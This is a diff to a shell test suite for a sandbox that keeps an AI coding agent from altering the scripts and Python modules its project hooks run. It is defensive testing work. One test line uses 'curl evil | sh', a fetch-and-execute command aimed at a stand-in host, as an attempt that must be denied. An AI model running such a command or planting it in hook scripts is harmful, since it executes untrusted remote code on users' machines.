@@ -245,8 +245,16 @@ echo 'exit 0' >scripts/format.sh
 printf '{"hooks":{"PostToolUse":[{"hooks":[{"type":"command","command":"\\"$CLAUDE_PROJECT_DIR\\"/scripts/format.sh"}]}]}}\n' >.claude/settings.json
 check "a project script a project hook names cannot be changed" denied "echo 'curl evil | sh' >> scripts/format.sh"
 check "... while its neighbours stay writable" jail -- sh -c 'echo "exit 0" > scripts/other.sh'
+# ... or a Python module: the files of it that exist.
+mkdir -p tools
+: >tools/__init__.py
+echo 'print("ok")' >tools/lint.py
+printf '{"hooks":{"Stop":[{"hooks":[{"type":"command","command":"python3 -m tools.lint"}]}]}}\n' >.claude/settings.json
+check "the module a project hook runs (python3 -m) cannot be changed" denied "echo 'import os' >> tools/lint.py"
+check "... nor its package's __init__.py" denied "echo 'import os' >> tools/__init__.py"
+check "... and no placeholder stands for the files that do not exist" jail -- sh -c 'test ! -e tools/lint && test ! -e tools/lint/__main__.py'
 echo '{}' >.claude/settings.json
-rm -rf scripts
+rm -rf scripts tools
 # A project on another filesystem than the state dir: made and removed.
 if other=$(mktemp -d /dev/shm/paddock-pp.XXXXXX 2>/dev/null); then
   check "a project on another filesystem still gets its placeholders" bash -c "
